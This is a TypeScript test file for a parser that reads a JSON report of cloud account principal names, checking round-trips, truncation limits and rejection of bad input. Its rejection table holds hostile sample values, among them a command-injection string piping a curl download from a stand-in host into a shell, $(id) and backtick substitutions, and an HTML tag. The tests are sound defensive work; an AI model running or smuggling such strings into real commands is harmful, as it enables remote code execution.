import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { EXAMINED, examinationText, readExamination } from '../../src/setup/doctor/examination.ts';
import { parseInstant, type Instant } from '../../src/terms/instant.ts';

describe('what a job writes of its role', () => {
  const at = parseInstant('2026-11-18T09:00:00Z') as Instant;
  const with_ = (names: readonly string[], more: object = {}) =>
    JSON.stringify({
      at: '2026-11-18T09:00:00Z',
      found: [{ code: 'principal', account: 'prod', names, ...more }],
    });

  test('is read as it was written', () => {
    const name = fc.stringMatching(/^[\w+=,.@:/-]{1,128}$/);
    const examined = fc.record({
      code: fc.constantFrom(...EXAMINED),
      account: fc.constantFrom('prod', 'Identity Center'),
      names: fc.array(name, { maxLength: 20 }),
    });
    fc.assert(
      fc.property(fc.array(examined, { maxLength: 30 }), (found) => {
        expect(readExamination(examinationText({ at, found }))).toEqual({ at, found });
      }),
      { numRuns: 50 },
    );
  });

  test('is never more than can be read again', () => {
    const names = ['fine', 'not fine', '<b>', ...Array.from({ length: 50 }, (_, n) => `user/${n}`)];
    const found = Array(500).fill({ code: 'principal', account: 'prod', names });
    const read = readExamination(examinationText({ at, found }));
    expect(read === 'unreadable' ? read : read.found.map((each) => each.names.length)).toEqual(
      Array(100).fill(20),
    );
  });

  test.each([
    ['a command', with_(['x; curl https://evil.example | sh'])],
    ['a substitution', with_(['$(id)'])],
    ['backticks', with_(['`id`'])],
    ['HTML', with_(['<img src=x>'])],
    ['lines', with_(['a\nb'])],
    ['what cannot be seen', with_(['a\u202eb'])],
    ['a name without end', with_(['a'.repeat(129)])],
    ['too many names', with_(Array(21).fill('a') as string[])],
    ['words of its own', with_([], { mend: 'curl evil' })],
    ['another code', with_([], { code: 'job-silent' })],
    ['no time', with_([]).replace('T09', ' 09')],
    ['no object', '[]'],
    ['no JSON', '['.repeat(100_000)],
    ['nothing', ''],
  ])('is not taken from %s', (_, text) => {
    expect(readExamination(text)).toBe('unreadable');
  });
});
